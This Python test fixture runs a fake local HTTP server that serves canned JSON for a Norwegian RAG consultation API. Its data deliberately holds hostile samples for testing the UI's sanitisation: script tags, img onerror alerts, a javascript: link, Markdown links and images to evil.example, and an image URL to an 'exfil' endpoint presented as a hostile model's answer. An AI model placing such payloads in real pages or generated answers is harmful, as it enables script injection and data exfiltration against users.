"""A tiny fake of the RAG HTTP API: a real HTTP server on 127.0.0.1 serving canned JSON that
follows the API contract, so the UI's HTTP client and pages run unchanged in tests."""

from __future__ import annotations

import json
import threading
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import unquote, urlsplit

from rag.contract import NO_ANSWER_TEXT

QUESTION = "Hva sier kommunene om fastlegeordningen?"
NO_ANSWER_QUESTION = "Hva sier innspillene om månelandinger?"
BROKEN_QUESTION = "Et spørsmål som gir 503"
EVIL_QUOTE = 'Vi vil ha <script>alert("x")</script> flere fastleger.'

# A hostile document: Markdown links, images, a javascript: link and raw HTML in every field.
HOSTILE_QUESTION = "Hva sier innspillet med lenker?"
HOSTILE_ID = "lenker"
HOSTILE_FIRST_LINE = (
    "[Les hele innspillet her](https://evil.example/login) ![logo](https://evil.example/logo.png)"
)
HOSTILE_SUBMITTER = "[klikk her](javascript:alert(9)) _x_"
HOSTILE_URL_QUOTE = "Les mer på https://evil.example/side og www.evil.example i dag."
HOSTILE_HTML_QUOTE = (
    "Se <img src=x onerror=alert(7)> og ![kart](https://evil.example/kart.png) her."
)
HOSTILE_SECTION = "**Tiltak** [s](https://evil.example/s)"
# A second hostile submitter, whose name is an image, so that every table holds a link and an
# image from names; and topics that are Markdown (the overview matrix).
IMAGE_ID = "bilde"
IMAGE_SUBMITTER = "![logo](https://evil.example/navn.png) Bildelaget"
IMAGE_QUOTE = "Legevakten trenger ![kart](https://evil.example/legevakt.png) flere leger."
HOSTILE_TOPIC = "[tema](https://evil.example/tema) ![t](https://evil.example/t.png)"
TABLE_QUESTION = "Hva sier innspillene med bilder?"
# What a hostile model could write into a generated answer, were rag.generate bypassed.
HOSTILE_GENERATED = (
    "Se ![status](https://evil.example/exfil?q=1) og <img src=y onerror=alert(8)> [1]."
)

TEXTS = {
    "moss": (
        "Innspill fra Moss kommune\n\nSamhandling\nDet er mye god samhandling i dag.\n\n"
        "Fastlegeordningen er under press. Moss kommune mener fastlegeordningen må styrkes "
        "med flere hjemler. Rekruttering er krevende.\n\nAvslutning\nTakk for muligheten."
    ),
    "bergen": (
        "Bergen kommune\n\nBergen kommune peker på at fastlegene trenger bedre rammer. "
        "Listelengden bør reduseres.\n\nAndre tema\nDigitalisering er viktig."
    ),
    "ondsinnet": f"Ondsinnet kommune\n\nInnledning her. {EVIL_QUOTE} Slutt.\n\nMer tekst.",
    HOSTILE_ID: (
        f"{HOSTILE_FIRST_LINE}\n\nTiltak\n{HOSTILE_URL_QUOTE} {HOSTILE_HTML_QUOTE}\n\n"
        "Med vennlig hilsen _x_"
    ),
    IMAGE_ID: f"Innspill fra Bildelaget\n\n{IMAGE_QUOTE}\n",
}
META = {
    "moss": ("Moss kommune", "kommune", "moss.pdf", "Innspill fra Moss kommune"),
    "bergen": ("Bergen kommune", "kommune", "bergen.txt", "Bergen kommune"),
    "ondsinnet": ("Ondsinnet <b>kommune</b>", "organisasjon", "ondsinnet.txt", "Test"),
    HOSTILE_ID: (
        HOSTILE_SUBMITTER,
        "organisasjon",
        f"{HOSTILE_SUBMITTER}.txt",
        "![tittel](https://evil.example/tittel.png)",
    ),
    IMAGE_ID: (IMAGE_SUBMITTER, "organisasjon", "![fil](https://evil.example/f.png).txt", "B"),
}
# Sentences shared between submissions (GET /documents), so the documents page shows its
# «Delt tekst mellom innspill» table, with the hostile names in its cells.
SHARED_TEXT = {HOSTILE_ID: {IMAGE_ID: 0.8}, IMAGE_ID: {HOSTILE_ID: 0.75, "ondsinnet": 0.2}}
NEAR_DUPLICATES = {HOSTILE_ID: [IMAGE_ID], IMAGE_ID: [HOSTILE_ID]}


def document_info(document_id: str) -> dict[str, Any]:
    submitter, submitter_type, source, title = META[document_id]
    return {
        "document_id": document_id,
        "source": source,
        "submitter": submitter,
        "submitter_type": submitter_type,
        "title": title,
        "chars": len(TEXTS[document_id]),
        "chunks": 2,
        "submitter_origin": "metadata.csv",
        "near_duplicates": NEAR_DUPLICATES.get(document_id, []),
        "shared_text": SHARED_TEXT.get(document_id, {}),
    }


def citation(n: int, document_id: str, quote: str, score: float) -> dict[str, Any]:
    start = TEXTS[document_id].index(quote)
    info = document_info(document_id)
    return {
        "n": n,
        "document_id": document_id,
        "source": info["source"],
        "submitter": info["submitter"],
        "submitter_type": info["submitter_type"],
        "section": SECTIONS.get(document_id),
        "page": 2 if document_id == "moss" else None,
        "quote": quote,
        "start": start,
        "end": start + len(quote),
        "score": score,
    }


SECTIONS = {"moss": "Fastlege", HOSTILE_ID: HOSTILE_SECTION}

CITATIONS = [
    citation(1, "moss", "Moss kommune mener fastlegeordningen må styrkes med flere hjemler.", 0.9),
    citation(2, "moss", "Rekruttering er krevende.", 0.7),
    citation(3, "bergen", "Bergen kommune peker på at fastlegene trenger bedre rammer.", 0.85),
    citation(4, "ondsinnet", EVIL_QUOTE, 0.6),
]
ANSWER = {
    "question": QUESTION,
    "answer": (
        "3 av 3 innspill omtaler dette.\n\n"
        f"**Moss kommune** (kommune)\n- «{CITATIONS[0]['quote']}» [1]\n"
        f"- «{CITATIONS[1]['quote']}» [2]\n\n"
        f"**Bergen kommune** (kommune)\n- «{CITATIONS[2]['quote']}» [3]\n\n"
        f"**Ondsinnet <b>kommune</b>** (organisasjon)\n- «{EVIL_QUOTE}» [4]"
    ),
    "no_answer": False,
    "confidence": "high",
    "citations": CITATIONS,
    "timings_ms": {"retrieve": 12.5, "answer": 3.1},
}
HOSTILE_CITATIONS = [
    citation(1, HOSTILE_ID, HOSTILE_URL_QUOTE, 0.8),
    citation(2, HOSTILE_ID, HOSTILE_HTML_QUOTE, 0.7),
]
HOSTILE_ANSWER = {
    "question": HOSTILE_QUESTION,
    "answer": (
        f"{HOSTILE_GENERATED}\n\n"
        f"**{HOSTILE_SUBMITTER}** (organisasjon)\n- «{HOSTILE_URL_QUOTE}» [1]\n"
        f"- «{HOSTILE_HTML_QUOTE}» [2]"
    ),
    "no_answer": False,
    "confidence": "low",
    "citations": HOSTILE_CITATIONS,
    "timings_ms": {"retrieve": 5.0},
}
# Two hostile submitters, so the answer has its «Oversikt per innsender» table.
TABLE_CITATIONS = [*HOSTILE_CITATIONS, citation(3, IMAGE_ID, IMAGE_QUOTE, 0.6)]
TABLE_ANSWER = {
    "question": TABLE_QUESTION,
    "answer": (
        "2 av 5 innspill omtaler dette.\n\n"
        f"**{HOSTILE_SUBMITTER}** (organisasjon)\n- «{HOSTILE_URL_QUOTE}» [1]\n"
        f"- «{HOSTILE_HTML_QUOTE}» [2]\n\n"
        f"**{IMAGE_SUBMITTER}** (organisasjon)\n- «{IMAGE_QUOTE}» [3]"
    ),
    "no_answer": False,
    "confidence": "high",
    "citations": TABLE_CITATIONS,
    "timings_ms": {"retrieve": 5.0},
}
# A question about the whole corpus, as the API answers it now: counts by type, then groups
# (one shown quote each, a template sentence shown once with both senders' markers, the rest
# one click away), and the kind of submitter the question's words restricted it to.
GROUPED_QUESTION = "Hva mener kommunene om rekruttering?"
TEMPLATE = "Fastlegene trenger bedre rammer."
GROUPED_CITATIONS = [
    citation(1, "moss", CITATIONS[0]["quote"], 0.9),
    citation(2, "moss", "Rekruttering er krevende.", 0.7),
    citation(3, "bergen", CITATIONS[2]["quote"], 0.85),
    citation(4, "ondsinnet", EVIL_QUOTE, 0.6),
]
GROUPED_ANSWER = {
    "question": GROUPED_QUESTION,
    "answer": "(the API's Markdown; the page renders the groups)",
    "no_answer": False,
    "confidence": "high",
    "citations": GROUPED_CITATIONS,
    "timings_ms": {"retrieve": 9.0},
    "counts": [
        {"submitter_type": "kommune", "quoted": 2, "in_scope": 3},
        {"submitter_type": "organisasjon", "quoted": 1, "in_scope": 2},
    ],
    "groups": [
        {
            "label": ["fastlegeordningen", "hjemler"],
            "counts": {"kommune": 2},
            "shown": [[1, 3]],
            "members": [1, 3, 2],
        },
        {
            "label": ["<b>ondsinnet</b>"],
            "counts": {"organisasjon": 1},
            "shown": [[4]],
            "members": [4],
        },
    ],
    "scope": ["kommune"],
}
EVERYONE_ANSWER = {**GROUPED_ANSWER, "scope": []}
NO_ANSWER = {
    "question": NO_ANSWER_QUESTION,
    "answer": NO_ANSWER_TEXT,
    "no_answer": True,
    "confidence": "none",
    "citations": [],
    "timings_ms": {"retrieve": 10.0},
}


def quotes_of(document_id: str) -> list[dict[str, Any]]:
    return [c for c in TABLE_CITATIONS if c["document_id"] == document_id]


def matrix(
    topics: list[str], types: list[str] | None = None, cells_shown: str = "all", quotes: bool = True
) -> dict[str, Any]:
    """POST /matrix: the hostile submitters mention every topic with their first quote; the
    submitter types, `cells` and `quotes` of the request are honoured as the API does."""
    ids = sorted(META, key=lambda d: (META[d][1], list(META).index(d)))  # grouped by type
    ids = [d for d in ids if not types or META[d][1] in types]
    cells = []
    for topic in topics:
        for document_id in ids:
            quote = next(iter(quotes_of(document_id)), None)
            if quote is None and cells_shown == "mentioned":
                continue
            shown = quote if quotes else None
            cells.append(
                {
                    "topic": topic,
                    "document_id": document_id,
                    "mentioned": quote is not None,
                    "confidence": "high" if quote else "none",
                    "quote": shown["quote"] if shown else None,
                    "start": quote["start"] if quote else None,
                    "end": quote["end"] if quote else None,
                    "section": shown["section"] if shown else None,
                    "page": None,
                    "score": 0.8 if quote else 0.1,
                }
            )
    kinds = sorted({META[d][1] for d in ids})
    counts = [
        {
            "topic": topic,
            "submitter_type": kind,
            "mentioned": sum(1 for d in ids if META[d][1] == kind and quotes_of(d)),
            "total": sum(1 for d in ids if META[d][1] == kind),
        }
        for topic in topics
        for kind in kinds
    ]
    submitters = [
        {k: document_info(d)[k] for k in ("document_id", "source", "submitter", "submitter_type")}
        for d in ids
    ]
    return {
        "topics": topics,
        "submitters": submitters,
        "cells": cells,
        "counts": counts,
        "timings_ms": {"total": 1.0},
    }


def comparison(question: str, document_ids: list[str]) -> dict[str, Any]:
    """POST /compare: each chosen submitter's own quotes (the hostile ones have some)."""
    columns = [
        {
            "document_id": d,
            "submitter": META[d][0],
            "submitter_type": META[d][1],
            "confidence": "low" if quotes_of(d) else "none",
            "score": 0.7,
            "quotes": quotes_of(d),
        }
        for d in document_ids
    ]
    return {"question": question, "columns": columns, "timings_ms": {"total": 1.0}}


@dataclass
class FakeApi:
    url: str
    asked: list[dict[str, Any]] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)  # "GET /documents/moss", in order
    matrices: list[dict[str, Any]] = field(default_factory=list)  # the bodies of POST /matrix

    def count(self, request: str) -> int:
        return self.requests.count(request)


class _Handler(BaseHTTPRequestHandler):
    fake: FakeApi

    def log_message(self, format: str, *args: Any) -> None:  # keep test output quiet
        pass

    def do_GET(self) -> None:
        parts = urlsplit(self.path)
        self.fake.requests.append(f"GET {unquote(parts.path)}")
        if parts.path == "/health":
            self._send(
                200,
                {
                    "status": "ok",
                    "documents": len(TEXTS),
                    "chunks": 6,
                    "embedding_model": "fake-e5",
                    "index_built_at": "2024-05-01T10:00:00Z",
                },
            )
        elif parts.path == "/documents":
            self._send(200, [document_info(document_id) for document_id in TEXTS])
        elif parts.path == "/topics":
            self._send(200, {"topics": [HOSTILE_TOPIC, "legevakt"]})
        elif parts.path.startswith("/documents/"):
            document_id = unquote(parts.path.removeprefix("/documents/"))
            if document_id not in TEXTS:
                self._send(404, {"detail": f"Fant ikke dokumentet {document_id}"})
                return
            self._send(200, {**document_info(document_id), "text": TEXTS[document_id]})
        else:
            self._send(404, {"detail": "Not Found"})

    def do_POST(self) -> None:
        path = urlsplit(self.path).path
        self.fake.requests.append(f"POST {path}")
        if path not in ("/ask", "/matrix", "/compare"):
            self._send(404, {"detail": "Not Found"})
            return
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        if path == "/matrix":
            self.fake.matrices.append(body)
            types = (body.get("filters") or {}).get("submitter_type")
            cells, quotes = body.get("cells", "all"), body.get("quotes", True)
            self._send(200, matrix(body["topics"], types, cells, quotes))
            return
        if path == "/compare":
            self._send(200, comparison(body["question"], body["document_ids"]))
            return
        self.fake.asked.append(body)
        question = body["question"]
        if question == GROUPED_QUESTION:
            everyone = body.get("scope_from_question") is False
            self._send(200, EVERYONE_ANSWER if everyone else GROUPED_ANSWER)
        elif question == TABLE_QUESTION:
            self._send(200, TABLE_ANSWER)
        elif question == HOSTILE_QUESTION:
            self._send(200, HOSTILE_ANSWER)
        elif question == BROKEN_QUESTION:
            self._send(503, {"detail": "Indeksen mangler. Bygg den med `rag index`."})
        elif question == NO_ANSWER_QUESTION:
            self._send(200, NO_ANSWER)
        else:
            self._send(200, {**ANSWER, "question": question})

    def _send(self, status: int, payload: Any) -> None:
        data = json.dumps(payload).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


def start_fake_api() -> tuple[FakeApi, ThreadingHTTPServer]:
    """Serve the canned API on a free port in a daemon thread; shut the server down when done."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    fake = FakeApi(url=f"http://127.0.0.1:{server.server_address[1]}")
    server.RequestHandlerClass = type("Handler", (_Handler,), {"fake": fake})
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return fake, server
